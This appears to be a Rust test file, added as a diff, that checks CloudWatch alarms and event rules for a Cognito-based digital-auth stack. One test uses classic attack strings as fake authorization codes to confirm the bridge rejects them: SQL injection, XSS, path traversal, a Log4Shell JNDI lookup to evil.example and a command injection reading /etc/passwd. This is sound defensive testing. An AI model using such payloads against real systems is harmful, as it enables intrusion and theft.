@@ -1,0 +1,593 @@
+//! From what the functions write to whether an alarm rings: what one person can cause calls nobody, and what meets everybody
+//! does. The functions are the real ones; their log goes to [`crate::cloudwatch`].
+
+use std::collections::BTreeSet;
+use std::ops::Range;
+
+use chrono::TimeDelta;
+use digital_auth::{Clock as _, SystemClock};
+use federation::failure::Class as BridgeClass;
+use four_attributes::{FourAttributes, VerifiedAt, VerifiedRecord};
+use function_kit::failure::Class as _;
+use function_kit::metrics::{COLD_START, Count, Refused, START_DURATION, Step};
+use function_kit::verified::Class as TriggerClass;
+use pre_token_generation::generation::concern_of_refused;
+use sealing::{SealingKeys, SystemRandomness};
+use serde_json::{Value, json};
+use simulators::fault::Fault;
+use simulators::lambda::{DirectFunction, FunctionOptions};
+use simulators::stack::Stack as Running;
+use test_kit::{
+    Arrival, BrowserLogin, Functions, Outcome, RelyingParty, StackOptions, browser, functions,
+    parameter, stack_with, variables,
+};
+use url::Url;
+
+use crate::cloudformation::text;
+use crate::cloudwatch::{Metric, Period, matches, metric, metrics_of, ringing};
+use crate::expected::STACK;
+use crate::observability::{rows, watched};
+
+const OURS: &str = "digital-auth";
+
+/// Everything that the functions can measure: each metric with each set of dimensions and their values.
+fn measurable() -> BTreeSet<Metric> {
+    let stack = ("Stack", STACK);
+    let mut all = BTreeSet::new();
+    let counts = Count::ALL.iter().map(|count| count.name());
+    for name in counts.chain(Step::ALL.iter().map(|step| step.name())) {
+        all.insert(metric(OURS, name, &[stack]));
+    }
+    // Written by Amazon API Gateway, and counted from its log.
+    all.insert(metric(OURS, "Throttled", &[stack]));
+    for package in Functions::PACKAGES {
+        for name in [COLD_START, START_DURATION] {
+            all.insert(metric(OURS, name, &[stack, ("Function", package)]));
+        }
+    }
+    let bridge = BridgeClass::ALL.iter();
+    let bridge = bridge.map(|class| (Refused::Failure, class.name(), class.concern()));
+    // A record that is refused is a failure where somebody signs in, and none where there are tokens without it.
+    let triggers = TriggerClass::ALL.iter();
+    let triggers = triggers.map(|class| (Refused::Failure, class.name(), class.concern()));
+    let records = TriggerClass::ALL.iter().filter(|class| class.is_refusal());
+    let records = records.map(|class| (Refused::Record, class.name(), concern_of_refused(*class)));
+    for (refused, class, concern) in bridge.chain(triggers).chain(records) {
+        let name = refused.name();
+        all.insert(metric(OURS, name, &[stack]));
+        all.insert(metric(OURS, name, &[stack, ("Class", class)]));
+        all.insert(metric(OURS, name, &[stack, ("Concern", concern.name())]));
+    }
+    all
+}
+
+/// What AWS measures of a function and of an HTTP API, as far as it is watched.
+///
+/// <https://docs.aws.amazon.com/lambda/latest/dg/monitoring-metrics-types.html>,
+/// <https://docs.aws.amazon.com/apigateway/latest/developerguide/http-api-metrics.html>
+fn measured_by_aws() -> BTreeSet<Metric> {
+    let mut all = BTreeSet::new();
+    for function in [
+        "myna-FederationFunction",
+        "myna-InboundFederationFunction",
+        "myna-PreTokenGenerationFunction",
+    ] {
+        for name in ["Errors", "Throttles", "Duration"] {
+            all.insert(metric("AWS/Lambda", name, &[("FunctionName", function)]));
+        }
+    }
+    for name in ["Count", "4xx", "5xx", "Latency"] {
+        all.insert(metric("AWS/ApiGateway", name, &[("ApiId", "myna-ApiId")]));
+    }
+    all
+}
+
+#[test]
+fn every_alarm_and_every_widget_is_about_something_that_is_measured() {
+    let stack = watched();
+    let known: BTreeSet<_> = measurable().union(&measured_by_aws()).cloned().collect();
+    for (id, alarm) in stack.of_type("AWS::CloudWatch::Alarm") {
+        let metrics = metrics_of(alarm);
+        assert!(!metrics.is_empty(), "{id}");
+        for metric in metrics {
+            assert!(known.contains(&metric), "{id}: {metric:?}");
+        }
+    }
+    let body = text(&stack.properties("Dashboard")["DashboardBody"]);
+    let body: Value = serde_json::from_str(&body).unwrap();
+    for widget in body["widgets"].as_array().unwrap() {
+        for row in rows(widget) {
+            let pairs = row[2..]
+                .chunks(2)
+                .map(|pair| (pair[0].as_str(), pair[1].as_str()));
+            let pairs: Vec<_> = pairs.collect();
+            let shown = metric(&row[0], &row[1], &pairs);
+            assert!(known.contains(&shown), "{shown:?}");
+        }
+        let queries = widget["properties"]["metrics"].as_array().unwrap().iter();
+        for search in queries.filter_map(|row| row[0].get("expression")) {
+            let found = known.iter().filter(|metric| finds(&text(search), metric));
+            assert!(found.count() > 0, "{search}");
+        }
+    }
+}
+
+/// Whether a search of a widget, as these are written, finds a metric: namespace and names of the dimensions in braces, then
+/// the metric's name and the stack.
+fn finds(search: &str, (namespace, name, dimensions): &Metric) -> bool {
+    let (_, schema) = search.split_once('{').unwrap();
+    let (schema, rest) = schema.split_once('}').unwrap();
+    let mut parts = schema.split(',').map(|part| part.trim_matches('"'));
+    let of_namespace = parts.next() == Some(namespace);
+    let wanted: BTreeSet<_> = parts.collect();
+    let has: BTreeSet<_> = dimensions.keys().map(String::as_str).collect();
+    of_namespace
+        && wanted == has
+        && rest.contains(&format!(r#"MetricName="{name}""#))
+        && rest.contains(&format!(r#"Stack="{STACK}""#))
+        && dimensions.get("Stack").is_some_and(|stack| stack == STACK)
+}
+
+/// Everything that it takes to log in; the bridge's environment differs in these variables.
+async fn running(changes: &[(&str, &str)]) -> Running {
+    running_with(|options| {
+        let changes = changes.iter();
+        let changes = changes.map(|(name, value)| ((*name).to_owned(), Some((*value).to_owned())));
+        options.environment.extend(changes);
+    })
+    .await
+}
+
+/// The same, with other options; the functions know the name of their stack.
+async fn running_with(change: impl FnOnce(&mut StackOptions)) -> Running {
+    stack_with(|options| {
+        let name = || variables([("STACK_NAME", Some(STACK))]);
+        options.environment = name();
+        options.trigger_environment = name();
+        change(options);
+    })
+    .await
+}
+
+/// What was measured so far, and with it how many of these answers of the API were 5xx.
+fn measured(running: &Running, statuses: &[u16]) -> Period {
+    let lines = running.bridge.logs().lines();
+    let period = Period::of(lines.iter().chain(&running.triggers.log_lines()));
+    // What isn't measurable would be missing in the list that the alarms are held to.
+    let known = measurable();
+    for metric in period.metrics() {
+        assert!(known.contains(metric), "{metric:?}");
+    }
+    let errors = statuses.iter().filter(|status| **status >= 500);
+    let api = metric("AWS/ApiGateway", "5xx", &[("ApiId", "myna-ApiId")]);
+    period.and(api, errors.map(|_| 1.0))
+}
+
+fn named(alarms: &[&str]) -> BTreeSet<String> {
+    alarms
+        .iter()
+        .map(|name| format!("{STACK}-{name}"))
+        .collect()
+}
+
+/// The status of the token endpoint, or of the page, at the end of a login whose browser goes elsewhere than the bridge said.
+async fn edited(running: &Running, edit: impl Fn(&mut Vec<(String, String)>)) -> u16 {
+    let client = RelyingParty::new(running);
+    let browser = browser();
+    let begun = browser
+        .get(&client.authorization_request().url(), "text/html")
+        .await;
+    let mut to_service = begun.unwrap().redirect_target().unwrap().unwrap();
+    let mut query: Vec<_> = to_service.query_pairs().into_owned().collect();
+    edit(&mut query);
+    to_service.query_pairs_mut().clear().extend_pairs(query);
+    let redirect_uri = client.redirect_uri();
+    let at_client = |url: &Url| url.as_str().starts_with(&redirect_uri);
+    let login = BrowserLogin::run(&browser, &to_service, "adult", None, at_client).await;
+    status_at_the_end(&client, &login.end).await
+}
+
+async fn status_at_the_end(client: &RelyingParty<'_>, end: &Arrival) -> u16 {
+    match end {
+        Arrival::Page(page) => page.status.as_u16(),
+        Arrival::At(_) => match parameter(end, "code") {
+            Some(code) => client.token_request(&code).send().await.status,
+            None => 302,
+        },
+    }
+}
+
+fn set(query: &mut [(String, String)], name: &str, change: impl Fn(&str) -> String) {
+    for (known, value) in query.iter_mut().filter(|(known, _)| known == name) {
+        assert!(known == name);
+        *value = change(value);
+    }
+}
+
+/// Somebody who edits what their browser carries to the service, three times: nobody is called. The bridge refuses it.
+#[tokio::test]
+async fn what_a_browser_carries_to_the_service_can_be_edited_and_calls_nobody() {
+    type Edit = fn(&mut Vec<(String, String)>);
+    let edits: [(&str, Edit); 3] = [
+        ("attribute_missing", |query| {
+            set(query, "scope", |scope| scope.replace(" name", ""));
+        }),
+        ("id_token_nonce", |query| {
+            set(query, "nonce", str::to_lowercase);
+        }),
+        // That of RFC 7636, Appendix B.
+        ("service_refused_code", |query| {
+            set(query, "code_challenge", |_| {
+                "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM".to_owned()
+            });
+        }),
+    ];
+    for (class, edit) in edits {
+        let running = running(&[]).await;
+        let mut statuses = Vec::new();
+        for _ in 0..3 {
+            statuses.push(edited(&running, edit).await);
+        }
+        assert_eq!(test_kit::logged_failures(&running), [class; 3]);
+        let period = measured(&running, &statuses);
+        assert_eq!(ringing(&watched(), &[period]), named(&[]), "{class}");
+        running.stop().await;
+    }
+}
+
+/// What the service says of such a login, where its stand-in needs telling.
+#[tokio::test]
+async fn what_the_service_makes_of_it_calls_nobody() {
+    for fault in [
+        // `acr_values` edited, or taken out.
+        Fault::IdTokenWrongAssurance,
+        Fault::IdTokenMissingAssurance,
+        // `openid` taken out of the scope.
+        Fault::TokenWithoutIdToken,
+        Fault::UserinfoMissingAddress,
+        Fault::IdTokenMissingNonce,
+        // A firewall in front of the service has something against the code.
+        Fault::TokenInvalidRequest,
+        Fault::CallbackForgedCode,
+        Fault::Cancel,
+        Fault::ErrorServerError,
+    ] {
+        let running = running(&[]).await;
+        let client = RelyingParty::new(&running);
+        let mut statuses = Vec::new();
+        for _ in 0..3 {
+            let request = client.authorization_request();
+            let end = client
+                .sign_in(&browser(), &request, "adult", Some(fault))
+                .await;
+            statuses.push(status_at_the_end(&client, &end).await);
+        }
+        let class = fault.class().unwrap();
+        assert_eq!(test_kit::logged_failures(&running), [class; 3]);
+        let period = measured(&running, &statuses);
+        assert_eq!(ringing(&watched(), &[period]), named(&[]), "{fault}");
+        running.stop().await;
+    }
+}
+
+/// What a firewall in front of the service could take for an attack isn't carried there: RFC 6749 §A.11, and no more than the
+/// service's own codes have.
+#[tokio::test]
+async fn a_code_of_odd_characters_is_carried_nowhere_and_calls_nobody() {
+    let running = running(&[]).await;
+    let client = RelyingParty::new(&running);
+    let codes = [
+        "' OR 1=1--",
+        "<script>alert(1)</script>",
+        "../../etc/passwd",
+        "${jndi:ldap://evil.example/a}",
+        "a;cat /etc/passwd",
+        "a\r\nX: y",
+        "\u{0}",
+        "%00",
+        "区",
+        "a b",
+    ];
+    let mut statuses = Vec::new();
+    for code in codes {
+        let browser = browser();
+        let request = client.authorization_request();
+        let mut callback = client.to_callback(&browser, &request).await;
+        let mut query: Vec<_> = callback.query_pairs().into_owned().collect();
+        set(&mut query, "code", |_| code.to_owned());
+        callback.query_pairs_mut().clear().extend_pairs(query);
+        let end = client.from_callback(&browser, &callback).await;
+        assert_eq!(parameter(&end, "code"), None, "{code:?}");
+        statuses.push(status_at_the_end(&client, &end).await);
+    }
+    let malformed = vec!["malformed_callback"; codes.len()];
+    assert_eq!(test_kit::logged_failures(&running), malformed);
+    assert_eq!(
+        running.service.count(simulators::service::Endpoint::Token),
+        0
+    );
+    let period = measured(&running, &statuses);
+    assert_eq!(ringing(&watched(), &[period]), named(&[]));
+    running.stop().await;
+}
+
+/// A stack waits for weeks for its client ID, and its login page is there.
+#[tokio::test]
+async fn a_login_before_there_is_a_client_id_calls_nobody() {
+    let running = running(&[("SERVICE_CLIENT_ID", "")]).await;
+    let client = RelyingParty::new(&running);
+    let mut statuses = Vec::new();
+    for _ in 0..20 {
+        let request = client.authorization_request();
+        let end = client.sign_in(&browser(), &request, "adult", None).await;
+        statuses.push(status_at_the_end(&client, &end).await);
+    }
+    assert_eq!(test_kit::logged_failures(&running), ["not_connected"; 20]);
+    assert_eq!(
+        ringing(&watched(), &[measured(&running, &statuses)]),
+        named(&[])
+    );
+    running.stop().await;
+}
+
+/// So many logins through Amazon Cognito; whether each succeeds.
+async fn log_in(running: &Running, times: Range<usize>, fault: Option<Fault>) -> Vec<bool> {
+    let mut succeeded = Vec::new();
+    for _ in times {
+        let outcome = running.login(&browser(), "adult", fault).await.unwrap();
+        succeeded.push(matches!(outcome, Outcome::SignedIn(_)));
+    }
+    succeeded
+}
+
+/// A wrong `AcceptedAcr` lets nobody in. The same refusal of one among others is theirs alone.
+#[tokio::test]
+async fn what_refuses_everybody_rings_and_what_refuses_one_of_many_does_not() {
+    let wrong = running(&[("ACCEPTED_ACR", "aal9")]).await;
+    assert_eq!(log_in(&wrong, 0..5, None).await, [false; 5]);
+    let period = measured(&wrong, &[]);
+    let rings = ringing(&watched(), &[period]);
+    assert_eq!(rings, named(&["logins-refused"]));
+    wrong.stop().await;
+
+    let right = running(&[]).await;
+    assert_eq!(log_in(&right, 0..2, None).await, [true; 2]);
+    let refused = log_in(&right, 0..6, Some(Fault::IdTokenWrongAssurance)).await;
+    assert_eq!(refused, [false; 6]);
+    let period = measured(&right, &[]);
+    assert_eq!(ringing(&watched(), &[period]), named(&[]));
+    right.stop().await;
+}
+
+/// A tool took the trigger out of the user pool: everything is as it was, but that it isn't invoked.
+#[tokio::test]
+async fn logins_that_finish_without_the_trigger_ring() {
+    let running = running_with(|options| {
+        options.cognito = |cognito| cognito.lambda_config.inbound_federation = None;
+    });
+    let running = running.await;
+    assert_eq!(log_in(&running, 0..1, None).await, [true]);
+    let gone = measured(&running, &[]);
+    running.stop().await;
+    let running = running_with(|_| {}).await;
+    assert_eq!(log_in(&running, 0..1, None).await, [true]);
+    let there = measured(&running, &[]);
+    running.stop().await;
+
+    let (stack, rings) = (watched(), named(&["inbound-federation-gone"]));
+    assert_eq!(ringing(&stack, &[there.clone(), there.clone()]), named(&[]));
+    // One quarter of an hour may be chance: the trigger's line comes a little later than the bridge's.
+    assert_eq!(ringing(&stack, &[there, gone.clone()]), named(&[]));
+    assert_eq!(ringing(&stack, &[gone.clone(), gone.clone()]), rings);
+    // Where logins are few, they may be hours apart. Where there are none, nothing is wrong.
+    let mut hours = vec![Period::default(); 10];
+    hours.insert(0, gone.clone());
+    hours.push(gone);
+    assert_eq!(ringing(&stack, &hours), rings);
+    assert_eq!(ringing(&stack, &vec![Period::default(); 20]), named(&[]));
+}
+
+const KEY: &str = "AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE";
+const OTHER_KEY: &str = "AgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgI";
+const ISSUER: &str = "https://service.example/realms/main";
+const SUBJECT: &str = "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed";
+
+/// A good record.
+fn record() -> String {
+    let record = VerifiedRecord {
+        issuer: ISSUER.to_owned(),
+        subject: SUBJECT.to_owned(),
+        provider_name: "MynaApp".to_owned(),
+        attributes: FourAttributes {
+            birth_date: Some("19850315".parse().unwrap()),
+            ..FourAttributes::default()
+        },
+        verified_at: VerifiedAt::Authentication(SystemClock.now() - TimeDelta::minutes(5)),
+        acr: None,
+    };
+    let keys = SealingKeys::new([KEY]).unwrap();
+    record.seal(&keys, &SystemRandomness).unwrap()
+}
+
+/// The trigger that makes tokens, with this key of records and this issuer.
+struct TokenTrigger(DirectFunction);
+
+impl TokenTrigger {
+    fn new(key: &str, issuer: &str) -> Self {
+        let executable = functions().pre_token_generation;
+        let mut options = FunctionOptions::new("pre-token-generation", executable);
+        let keys = json!({ "keys": [key] }).to_string();
+        options.environment = [
+            ("RECORD_KEYS", &*keys),
+            ("SERVICE_ISSUER", issuer),
+            ("PROVIDER_NAME", "MynaApp"),
+            ("STACK_NAME", STACK),
+            ("AWS_ACCESS_KEY_ID", "AKIAEXAMPLE"),
+            ("AWS_SECRET_ACCESS_KEY", "for nobody"),
+        ]
+        .map(|(name, value)| (name.to_owned(), value.to_owned()))
+        .into();
+        Self(DirectFunction::new(options))
+    }
+
+    /// Tokens for whoever has this record, so many times: whether they have a claim of ours.
+    async fn refresh(&self, record: &str, times: usize) -> bool {
+        let event = include_str!("../events/pre-token-generation/refresh.json");
+        let event = event.replace("{{record}}", record);
+        let mut has_claim = Vec::new();
+        for _ in 0..times {
+            let answer = self.0.invoke(event.clone()).await.unwrap();
+            has_claim.push(String::from_utf8_lossy(&answer).contains(r#""age_over_20":true"#));
+        }
+        has_claim.dedup();
+        let [all] = has_claim[..] else {
+            panic!("{has_claim:?}");
+        };
+        all
+    }
+
+    /// What rings after it.
+    fn rings(&self) -> BTreeSet<String> {
+        let period = Period::of(&self.0.logs().lines());
+        let known = measurable();
+        assert!(period.metrics().all(|metric| known.contains(metric)));
+        ringing(&watched(), &[period])
+    }
+}
+
+/// A wrong key or a wrong issuer refuses everybody's records.
+#[tokio::test]
+async fn records_that_are_refused_for_everybody_ring() {
+    for (key, issuer) in [
+        (OTHER_KEY, ISSUER),
+        (KEY, "https://service.example/realms/other"),
+    ] {
+        let trigger = TokenTrigger::new(key, issuer);
+        assert!(!trigger.refresh(&record(), 5).await);
+        assert_eq!(trigger.rings(), named(&["records-refused"]));
+    }
+}
+
+/// One user's nonsense, again and again among the others': an unknown key too can be made up.
+#[tokio::test]
+async fn one_users_nonsense_does_not_ring() {
+    let trigger = TokenTrigger::new(KEY, ISSUER);
+    assert!(trigger.refresh(&record(), 8).await);
+    let foreign = record().replacen("Ae", "AQ", 1);
+    assert_ne!(foreign, record());
+    for nonsense in ["nonsense", &foreign] {
+        assert!(!trigger.refresh(nonsense, 3).await);
+    }
+    assert_eq!(trigger.rings(), named(&[]));
+    // And alone, where it isn't much.
+    let trigger = TokenTrigger::new(KEY, ISSUER);
+    assert!(!trigger.refresh("nonsense", 4).await);
+    assert_eq!(trigger.rings(), named(&[]));
+}
+
+/// A record that somebody changed is no nonsense.
+#[tokio::test]
+async fn a_forged_record_rings_at_once() {
+    let trigger = TokenTrigger::new(KEY, ISSUER);
+    assert!(trigger.refresh(&record(), 1).await);
+    let mut forged = record();
+    let last = forged.pop().unwrap();
+    let at = forged.len() - 4;
+    let other = if &forged[at..=at] == "A" { "B" } else { "A" };
+    forged.replace_range(at..=at, other);
+    forged.push(last);
+    assert!(!trigger.refresh(&forged, 1).await);
+    assert_eq!(trigger.rings(), named(&["tampering"]));
+}
+
+/// What AWS CloudTrail says of a call, as Amazon EventBridge hands it on. The events are those of AWS's documentation, with
+/// keys and secrets of this stack.
+fn api_call(service: &str, name: &str, detail: &Value) -> Value {
+    let mut event = json!({
+        "version": "0",
+        "detail-type": "AWS API Call via CloudTrail",
+        "source": format!("aws.{service}"),
+        "account": "123456789012",
+        "time": "2026-11-29T00:00:00Z",
+        "region": "ap-northeast-1",
+        "detail": {
+            "eventVersion": "1.08",
+            "eventSource": format!("{service}.amazonaws.com"),
+            "eventName": name,
+            "awsRegion": "ap-northeast-1",
+            "readOnly": false,
+            "eventType": "AwsApiCall",
+        },
+    });
+    let members = detail.as_object().unwrap().clone();
+    event["detail"].as_object_mut().unwrap().extend(members);
+    event
+}
+
+/// Keys and secrets that are about to be lost are told of, ours alone, and only if it came about.
+#[test]
+fn a_key_that_is_going_to_be_deleted_is_told_of_and_so_is_a_secret() {
+    let stack = watched();
+    let told = |event: &Value| -> Vec<String> {
+        let rules = stack.of_type("AWS::Events::Rule");
+        let matching = rules.filter(|(_, rule)| matches(&rule["EventPattern"], Some(event)));
+        let targets = matching.map(|(_, rule)| {
+            let [target] = &rule["Targets"].as_array().unwrap()[..] else {
+                panic!("one target");
+            };
+            assert_eq!(target["Arn"], "nested-AlarmTopic");
+            message(&target["InputTransformer"], event)
+        });
+        targets.collect()
+    };
+    let key = |arn: &str| json!({ "resources": [{ "accountId": "123456789012", "type": "AWS::KMS::Key", "ARN": arn }] });
+    for name in ["ScheduleKeyDeletion", "DisableKey"] {
+        let told_of = told(&api_call("kms", name, &key("another-key")));
+        let [message] = &told_of[..] else {
+            panic!("{told_of:?}");
+        };
+        assert!(message.starts_with(&format!(
+            "{STACK}-keys: {name} (another-key, 2026-11-29T00:00:00Z)."
+        )));
+        assert!(
+            message.contains("docs/operation.md / ") && message.ends_with("docs/operation.en.md")
+        );
+    }
+    let secret = |id: &str| json!({ "requestParameters": { "secretId": id } });
+    for id in ["a-secret", "myna-record-keys-a1b2c3d4"] {
+        let told_of = told(&api_call("secretsmanager", "DeleteSecret", &secret(id)));
+        let [message] = &told_of[..] else {
+            panic!("{told_of:?}");
+        };
+        assert!(message.starts_with(&format!("{STACK}-secrets: DeleteSecret ({id}, ")));
+    }
+
+    let mut denied = key("another-key");
+    denied["errorCode"] = json!("AccessDenied");
+    for nothing in [
+        api_call("kms", "ScheduleKeyDeletion", &key("somebody-elses")),
+        api_call("kms", "ScheduleKeyDeletion", &denied),
+        api_call("kms", "EnableKey", &key("another-key")),
+        api_call(
+            "secretsmanager",
+            "DeleteSecret",
+            &secret("other-record-keys-a"),
+        ),
+        api_call("secretsmanager", "GetSecretValue", &secret("a-secret")),
+    ] {
+        assert_eq!(told(&nothing), [""; 0], "{nothing}");
+    }
+}
+
+/// What a target gets of an event: its template, with the values at these paths.
+fn message(transformer: &Value, event: &Value) -> String {
+    let mut message = text(&transformer["InputTemplate"]);
+    for (name, path) in transformer["InputPathsMap"].as_object().unwrap() {
+        let path = text(path).replace("$.", "/").replace('.', "/");
+        let path = path.replace('[', "/").replace(']', "");
+        let value = text(event.pointer(&path).unwrap());
+        message = message.replace(&format!("<{name}>"), &value);
+    }
+    // A text in quotes.
+    serde_json::from_str(&message).unwrap()
+}
